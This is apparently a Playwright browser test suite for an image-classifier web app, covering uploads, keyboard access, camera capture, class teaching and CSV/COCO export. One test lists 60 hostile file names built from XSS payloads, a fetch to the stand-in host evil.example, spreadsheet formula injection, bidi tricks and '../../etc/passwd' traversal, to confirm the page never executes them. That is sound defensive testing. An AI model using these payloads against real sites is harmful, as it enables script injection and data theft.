"""The page in a real browser: every way in, by mouse and by keyboard, with other hosts blocked."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from tinysight.predict.output import plain, write_coco, write_csv
from tinysight.predict.predictor import Prediction, Predictor

BIDI = "\u202egnp.\u202cpicture"


@pytest.fixture(scope="module")
def pictures(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("pictures")
    names = ["a.png", "b, with a comma.png", "<b>bold<b>.png", f"{BIDI}.png"]
    for number, name in enumerate(names):
        pixels = np.random.default_rng(number).integers(0, 256, (30 + number, 40, 3), np.uint8)
        Image.fromarray(pixels).save(folder / name)
    return [folder / name for name in names]


@pytest.fixture(autouse=True)
def no_classes(project: Path) -> None:
    """Take away what another test taught."""
    shutil.rmtree(project, ignore_errors=True)


def answered(page: Any, count: int) -> None:
    plural = "s" * (count != 1)
    page.locator("#status", has_text=re.compile(rf"^{count} picture{plural} answered")).wait_for()


def test_pictures_are_chosen_and_answered_as_on_the_command_line(
    page: Any, pictures: list[Path], predictor: Predictor, tmp_path: Path
) -> None:
    page.set_input_files("#files", pictures)
    answered(page, 4)
    assert page.locator(".card").count() == 4
    first = page.locator(".card").first.locator("li").all_inner_texts()
    expected = predictor.predict(pictures[0])
    shares = [f"{100 * share:.1f} %" for share in expected.probabilities]
    assert [text.split("\n")[-1] for text in first] == shares
    with page.expect_download() as download:
        page.get_by_role("button", name="Save CSV").click()
    saved = Path(download.value.path()).read_text("utf-8")
    named = predictor.predict(pictures)
    write_csv(named, predictor.metadata, tmp_path / "expected.csv")
    ours = list(csv.reader(io.StringIO((tmp_path / "expected.csv").read_text("utf-8"))))
    theirs = list(csv.reader(io.StringIO(saved)))
    assert [row[1] for row in theirs] == [row[1] for row in ours]
    assert [row[0] for row in theirs[1:]] == [path.name for path in pictures]
    command = f"tinysight predict {predictor.path} FOLDER --csv answers.csv"
    assert command in page.locator("#saved").inner_text()


def test_names_are_text(page: Any, pictures: list[Path]) -> None:
    page.set_input_files("#files", pictures)
    answered(page, 4)
    assert page.title() == "tinysight"
    assert page.locator(".card img").count() == 4  # none from a name
    assert page.locator(".card b").count() == 0
    assert page.locator("bdi", has_text="picture").count() == 1


def test_what_is_no_picture_is_said_and_the_rest_is_answered(
    page: Any, pictures: list[Path], tmp_path: Path
) -> None:
    text = tmp_path / "notes.png"
    text.write_text("no picture, but long enough to have a signature")
    page.set_input_files("#files", [text, pictures[0]])
    answered(page, 2)
    assert "1 not read" in page.locator("#status").inner_text()
    assert "not an image" in page.locator(".card").first.inner_text()
    page.select_option("#filter", "not read")
    assert page.locator(".card").count() == 1


def test_everything_by_keyboard(
    page: Any, pictures: list[Path], choose_by_enter: Callable[..., None]
) -> None:
    focused = "() => document.activeElement.id"
    for _ in range(6):  # four views, the models where a test taught one, the button
        page.keyboard.press("Tab")
        if page.evaluate(focused) == "choose":
            break
    assert page.evaluate(focused) == "choose"
    choose_by_enter(page, pictures)
    answered(page, 4)
    reached = []
    for _ in range(8):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("() => document.activeElement.id"))
    assert reached[:5] == ["open-camera", "filter", "order", "view", "csv"]
    page.locator("#view").focus()
    page.keyboard.press("t")
    assert page.locator("#table tbody tr").count() == 4
    page.locator("#clear").focus()
    page.keyboard.press("Enter")
    assert not page.locator("#results").is_visible()
    page.keyboard.press("Enter")  # the focus is on Undo
    answered(page, 4)


def test_pictures_are_dropped_and_pasted(page: Any, pictures: list[Path]) -> None:
    data = list(pictures[0].read_bytes())
    for kind in ("drop", "paste"):
        page.evaluate(
            """([kind, data]) => {
                const transfer = new DataTransfer();
                transfer.items.add(new File([new Uint8Array(data)], `${kind}.png`));
                const options = {bubbles: true, cancelable: true};
                window.dispatchEvent(kind === "drop"
                    ? new DragEvent("drop", {...options, dataTransfer: transfer})
                    : new ClipboardEvent("paste", {...options, clipboardData: transfer}));
            }""",
            [kind, data],
        )
    answered(page, 2)
    assert page.locator(".card h2").all_inner_texts() == ["drop.png", "paste.png"]


def test_text_is_left_to_the_browser(page: Any, pictures: list[Path]) -> None:
    page.get_by_role("link", name="Teach").click()
    page.locator("#new-name").focus()
    taken = page.evaluate(
        """(data) => {
            const text = new DataTransfer(), file = new DataTransfer(), both = new DataTransfer();
            for (const each of [text, both]) each.items.add("red", "text/plain");
            const picture = new File([new Uint8Array(data)], "a.png", {type: "image/png"});
            for (const each of [file, both]) each.items.add(picture);
            const options = {bubbles: true, cancelable: true};
            const field = document.getElementById("new-name");
            field.dispatchEvent(new ClipboardEvent("paste", {...options, clipboardData: both}));
            return [text, file].map((dataTransfer) =>
                !field.dispatchEvent(new DragEvent("dragover", {...options, dataTransfer})));
        }""",
        list(pictures[0].read_bytes()),
    )
    assert taken == [False, True]
    page.wait_for_timeout(100)
    assert page.locator("#teach-status").inner_text() == "", "no picture was taken"


def test_a_lost_connection_is_tried_again(page: Any, pictures: list[Path]) -> None:
    page.evaluate("""() => {
        const [ask, later] = [window.fetch, window.setTimeout];
        const wait = (act, time, ...more) => later(act, time === 3000 ? 100 : time, ...more);
        window.setTimeout = wait;
        window.fetch = async () => { throw new TypeError("Failed to fetch"); };
        window.goOn = () => (window.fetch = ask);
    }""")
    page.set_input_files("#files", pictures)
    page.locator("#status", has_text="0 of 4 pictures answered; the server does not").wait_for()
    page.evaluate("() => { goOn(); }")
    answered(page, 4)
    assert page.locator("#status").inner_text() == "4 pictures answered"


def test_a_camera_that_opens_too_late_is_stopped(page: Any) -> None:
    page.evaluate("""() => {
        const devices = navigator.mediaDevices, open = devices.getUserMedia.bind(devices);
        const released = new Promise((done) => (window.release = done));
        devices.getUserMedia = async (options) => {
            window.opened = await open(options);
            await released;
            return window.opened;
        };
    }""")
    page.get_by_role("button", name="Camera").click()
    while not page.evaluate("Boolean(window.opened)"):
        page.wait_for_timeout(20)
    page.keyboard.press("Escape")
    page.locator("#camera").wait_for(state="hidden")
    page.evaluate("release()")
    page.wait_for_timeout(100)
    assert page.evaluate("opened.getTracks().map((each) => each.readyState)") == ["ended"]


@pytest.mark.parametrize("by", ["mouse", "keyboard"])
def test_answers_are_explained_on_demand(
    page: Any, pictures: list[Path], predictor: Predictor, training_images: Any, by: str
) -> None:
    page.set_input_files("#files", pictures[:1])
    answered(page, 1)
    card = page.locator(".card")
    assert card.locator("svg.heat").count() == 0 and not card.locator(".nearest").is_visible()

    def press(name: str) -> None:
        button = card.get_by_role("button", name=name)
        if by == "mouse":
            button.click()
        else:
            button.focus()
            page.keyboard.press("Enter")

    press("Heat map")
    card.locator("svg.heat image").wait_for()
    assert card.get_by_role("button", name="Heat map").get_attribute("aria-pressed") == "true"
    assert "matters much" in card.inner_text() or "part covered" in card.inner_text()
    assert card.locator("svg.heat image").get_attribute("width") == "40"
    press("Heat map")
    assert card.locator("svg.heat").count() == 0
    assert card.locator("[role=status]").first.inner_text() == ""
    # Prepared once for the module's server: the first of these tests sees it fail before.
    training_images.fails = first = not training_images.ready
    press("Nearest training pictures")
    if first:
        card.get_by_text("the disk is gone").wait_for()
        training_images.fails = False
        press("Nearest training pictures")
    card.locator(".nearest li").wait_for()
    assert card.locator(".nearest").inner_text().split() == ["<b>cat", "0.25"]
    assert card.locator(".nearest img").evaluate("image => image.naturalWidth") == 2
    press("Nearest training pictures")
    assert not card.locator(".nearest").is_visible()


def test_drawn_shapes_can_be_asked_about(page: Any) -> None:
    page.get_by_role("button", name="Try it with drawn shapes").press("Enter")
    answered(page, 3)
    names = page.locator(".card h2").all_inner_texts()
    assert names == ["circle 1.png", "cross 1.png", "triangle 1.png"]
    assert not page.locator("#ask-examples").is_visible()


def test_pictures_are_taken_by_the_camera(page: Any) -> None:
    page.get_by_role("button", name="Camera").click()
    page.get_by_role("button", name="Take a picture").click()
    page.keyboard.press("Escape")
    assert not page.locator("#camera").is_visible()
    answered(page, 1)
    assert page.locator(".card h2").inner_text() == "camera-1.png"
    assert page.locator(".card li").count() == 3


@pytest.mark.parametrize("by", ["mouse", "keyboard"])
def test_a_burst_is_taken_while_the_button_is_held(page: Any, by: str) -> None:
    page.get_by_role("button", name="Camera").click()
    button = page.get_by_role("button", name="Take a picture")
    page.locator("#shoot:enabled").wait_for()
    if by == "mouse":
        button.hover()
        page.mouse.down()
        page.locator("#camera-count", has_text=re.compile("[3-6] pictures")).wait_for()
        page.mouse.up()
    else:
        button.focus()
        for _ in range(4):
            page.keyboard.down("Enter")  # as a held key repeats
            page.wait_for_timeout(200)
        page.keyboard.up("Enter")
    page.locator(".card").nth(2).wait_for()
    count = page.locator(".card").count()
    assert count <= 7
    page.wait_for_timeout(700)
    assert page.locator(".card").count() == count, "it has ended"
    page.get_by_role("button", name="Close").click()
    answered(page, count)


SCRIPTS = ("document.title='broken'", "alert(1)", "fetch('http://evil.example')")
HOSTILE_NAMES = [
    form.format(script)
    for script in SCRIPTS
    for form in (
        "<script>{}</script>.png",
        "<img src=x onerror={}>.png",
        "<svg onload={}>.png",
        '"><img src=x onerror={}>.png',
        "' onmouseover='{}.png",
        "javascript:{}.png",
        "${{{}}}.png",
        "{{{{{}}}}}.png",
        "</title><script>{}</script>.png",
        "<iframe srcdoc='<script>parent.{}</script>'>.png",
        "<style>@import 'http://evil.example/{}'</style>.png",
        "<a href=javascript:{}>x</a>.png",
        "\u202e{}gnp.\u202c.png",
        "\u2066{}\u2069.png",
        "<math><mi xlink:href='data:x,{}'>.png",
        "=cmd|'{}'!A1.png",
        "\x00{}.png",
        "\n{}\r\n.png",
    )
] + ["x" * 1_000_000 + ".png", "\ud800.png", "", "__proto__", "constructor", "../../etc/passwd"]


def test_hostile_names_are_never_executed(page: Any, pictures: list[Path], project: Path) -> None:
    assert len(HOSTILE_NAMES) == 60
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.evaluate(
        """([names, data]) => {
            const transfer = new DataTransfer();
            for (const name of names) transfer.items.add(new File([new Uint8Array(data)], name));
            const options = {bubbles: true, cancelable: true, clipboardData: transfer};
            window.dispatchEvent(new ClipboardEvent("paste", options));
        }""",
        [HOSTILE_NAMES, list(pictures[0].read_bytes())],
    )
    answered(page, 60)
    page.locator(".card h2 .name").nth(3).hover()
    for view in ("table", "cards"):
        page.select_option("#view", view)
        assert page.title() == "tinysight"
        inside = page.locator("#results :is(script, iframe, style, math, a, svg, [onerror])")
        assert inside.count() == 0
    for name in HOSTILE_NAMES[1:54:18]:  # class folders that were not made on the page
        (project / name.replace("/", "-")).mkdir(parents=True, exist_ok=True)
    page.get_by_role("link", name="Teach").click()
    page.locator(".class").nth(2).wait_for()
    assert page.locator("#classes img").count() == 0 and page.title() == "tinysight"


def test_runs_are_shown_with_curves(
    page: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TINYSIGHT_RUNS", str(tmp_path))
    golden = Path(__file__).parent.parent / "golden" / "run"
    shutil.copytree(golden, tmp_path / "<i>pets")
    page.get_by_role("link", name="Runs").press("Enter")
    page.get_by_role("button", name=re.compile("<i>pets")).press("Enter")
    page.locator("#run svg").first.wait_for()
    assert page.locator("#run polyline").count() == 2
    assert page.locator("#runs i").count() == 0
    shown = page.locator("#run").inner_text()
    assert "loss of training: 1.54 at epoch 1.11" in shown
    assert "error, minival: 75.0 % at epoch 1" in shown


def test_classes_are_taught_tried_and_undone(page: Any, tmp_path: Path, project: Path) -> None:
    shutil.rmtree(project, ignore_errors=True)
    page.get_by_role("link", name="Teach").click()
    for name, color in (
        ("red", (220, 30, 30)),
        ("<b>blue", (30, 30, 220)),
        ("blue", (30, 30, 220)),
    ):
        page.get_by_label("New class").fill(name)
        page.keyboard.press("Enter")
        if "<" in name:
            page.get_by_text("a class's name has none of").wait_for()
            for refused, words in (
                ("", "Type the class's name first."),
                ("..", "a class's name has none of"),
                ("a/b", "a class's name has none of"),
                ("red", "red is there already."),
            ):
                page.get_by_label("New class").fill(refused)
                page.keyboard.press("Enter")
                page.locator("#teach-status", has_text=words).wait_for()
            continue
        page.get_by_role("region", name=name, exact=True).wait_for()
        files = []
        for number in range(5):
            files.append(tmp_path / f"{name}-{number}.png")
            noise = np.random.default_rng(number).integers(-30, 30, (32, 32, 3))
            pixels = (noise + np.array(color)).clip(0, 255).astype(np.uint8)
            Image.fromarray(pixels).save(files[-1])
        page.get_by_role("region", name=name, exact=True).locator("input").set_input_files(files)
        page.get_by_text(f"5 pictures added to {name}", exact=True).wait_for()
    taken = page.get_by_role("button", name="Take picture 1 out of red")
    taken.focus()
    page.keyboard.press("Enter")
    page.get_by_role("region", name="red").get_by_text("4 pictures").wait_for()
    page.get_by_role("button", name="Undo").click()
    page.get_by_role("region", name="red").get_by_text("5 pictures").wait_for()
    page.get_by_role("button", name="Learn these classes").click()
    page.get_by_text("Learned from 10 pictures").wait_for(timeout=60000)
    assert "right on pictures that it had not seen" in page.locator("#learned").inner_text()
    page.get_by_role("button", name="Try it").click()
    page.set_input_files("#files", files)
    answered(page, 5)
    first = page.locator(".card").first.locator("li").first.inner_text()
    assert first.startswith("blue")


def test_no_view_keeps_people_out(
    page: Any,
    pictures: list[Path],
    project: Path,
    training_images: Any,
    barriers: Callable[[Any], list[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TINYSIGHT_RUNS", str(tmp_path))
    shutil.copytree(Path(__file__).parent.parent / "golden" / "run", tmp_path / "rose")
    shutil.rmtree(project, ignore_errors=True)
    training_images.fails = False
    page.emulate_media(color_scheme="dark" if page.viewport_size["width"] == 400 else "light")
    found = {"nothing asked": barriers(page)}
    broken = tmp_path / "broken.png"
    broken.write_text("no picture, but long enough to have a signature")
    page.set_input_files("#files", [*pictures[:2], broken])
    answered(page, 3)
    for name in ("Heat map", "Nearest training pictures"):
        page.get_by_role("button", name=name).first.click()
    page.locator(".nearest li").wait_for()
    page.locator("svg.heat").wait_for()
    found["answers"] = barriers(page)
    page.select_option("#view", "table")
    found["table"] = barriers(page)
    page.get_by_role("button", name="Clear").click()
    found["undo"] = barriers(page)
    page.get_by_role("button", name="Camera").click()
    found["camera"] = barriers(page)
    page.keyboard.press("Escape")
    page.get_by_role("link", name="Teach").click()
    page.locator("#examples").wait_for()
    found["nothing taught"] = barriers(page)
    page.get_by_role("button", name="Try it with drawn shapes").click()
    page.get_by_text("12 pictures added to triangle", exact=True).wait_for()
    page.get_by_role("button", name="Learn these classes").click()
    page.get_by_text(re.compile("^Learned from")).wait_for(timeout=60000)
    found["learned"] = barriers(page)
    page.get_by_role("link", name="Runs").click()
    page.get_by_role("button", name=re.compile("rose")).click()
    page.locator("#run svg").first.wait_for()
    found["runs"] = barriers(page)
    assert {view: rules for view, rules in found.items() if rules} == {}


BOX = (1.0, 2.5, 30.0, 20.5)
SOME = {"size": (64, 48), "threshold": 0.5}
FOUND = {"boxes": (BOX, BOX, BOX), "confidences": (0.9, 0.75, 0.25), **SOME}
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "classifier": ({}, {}),
    "none of these": ({"none_below": 0.0}, {"is_none": True}),
    "one class an image": ({"localizer": {"head": "mlp"}}, FOUND | {"box_labels": ("dog",) * 3}),
    "no box": ({"localizer": {"head": "mlp"}}, SOME),
    "no class": (
        {"localizer": {"head": "mlp", "class_loss_weight": 0.0}},
        FOUND | {"box_labels": ("",) * 3},
    ),
    "a class a box": (
        {"localizer": {"head": "mlp", "box_classes": True}},
        FOUND | {"box_labels": ("cat", "dog", "cat")},
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_answers_are_saved_as_the_command_line_writes_them(
    page: Any, predictor: Predictor, tmp_path: Path, case: str
) -> None:
    changes, own = CASES[case]
    metadata = replace(predictor.metadata, **changes)
    names = ("dog", "cat")
    prediction = Prediction("a, b.png", names, names, (0.75, 0.25), **own)
    width, height = own.get("size", (64, 48))
    answer = plain(prediction, metadata) | {"width": width, "height": height}
    items = [{"name": "a, b.png", "answer": answer}, {"name": "broken.png", "error": "why"}]
    model = {
        "classes": metadata.class_names,
        "classifies": metadata.classifies,
        "finds": bool(metadata.localizer),
        "box_classes": metadata.has_box_classes,
    }
    saved = page.evaluate(
        """async ([items, model]) => {
            const { csvOf, cocoOf } = await import("/web/saving.js");
            return [csvOf(items, model), model.finds ? JSON.parse(cocoOf(items, model)) : null];
        }""",
        [items, model],
    )
    write_csv([prediction], metadata, tmp_path / "a.csv")
    assert saved[0] == (tmp_path / "a.csv").read_text("utf-8")
    if metadata.localizer:
        write_coco([replace(prediction, path="a, b.png")], metadata, tmp_path / "a.json")
        assert saved[1] == json.loads((tmp_path / "a.json").read_text("utf-8"))


def test_answers_of_several_models_are_saved(
    page: Any, pictures: list[Path], predictor: Predictor
) -> None:
    models = page.evaluate("fetch('api/models').then((answer) => answer.json())")
    finding = {"classes": ["fish"], "classifies": False, "finds": True, "command": "finds"}
    models = {"given": models["given"], "taught": models["given"] | finding}
    page.route("**/api/models", lambda route: route.fulfill(json=models))
    box = {"box": [1, 2, 4, 8], "confidence": 0.5}
    found = {"top": [], "boxes": [box], "width": 40, "height": 30}
    page.route("**/api/predict?model=taught", lambda route: route.fulfill(json=found))
    page.reload()
    page.locator("#which").wait_for()
    page.set_input_files("#files", pictures[:1])
    answered(page, 1)
    assert not page.get_by_role("button", name="Save COCO").is_visible()
    page.select_option("#models", "taught")
    page.set_input_files("#files", pictures[1:2])
    answered(page, 2)
    page.select_option("#models", "given")
    with page.expect_download() as download:
        page.get_by_role("button", name="Save CSV").click()
    head, *rows = csv.reader(io.StringIO(Path(download.value.path()).read_text("utf-8")))
    assert head == ["file", "x0", "y0", "x1", "y1", "confidence", "class", "probability"]
    expected = predictor.predict(pictures[0])
    assert rows[0][:-1] == [pictures[0].name, *[""] * 5, expected.label]
    assert float(rows[0][-1]) == pytest.approx(expected.probability, abs=1e-4)
    assert rows[1] == [pictures[1].name, *["1.00", "2.00", "4.00", "8.00", "0.500000"], "", ""]
    with page.expect_download() as download:
        page.get_by_role("button", name="Save COCO").click()
    coco = json.loads(Path(download.value.path()).read_text("utf-8"))
    assert [each["file_name"] for each in coco["images"]] == [pictures[1].name]
    assert coco["categories"] == [{"id": 1, "name": "object"}]
    assert "without 1 whose model finds no boxes" in page.locator("#saved").inner_text()
    page.select_option("#view", "table")
    cells = page.locator("#table tbody td.number:last-child").all_inner_texts()
    assert cells == ["", "1"]
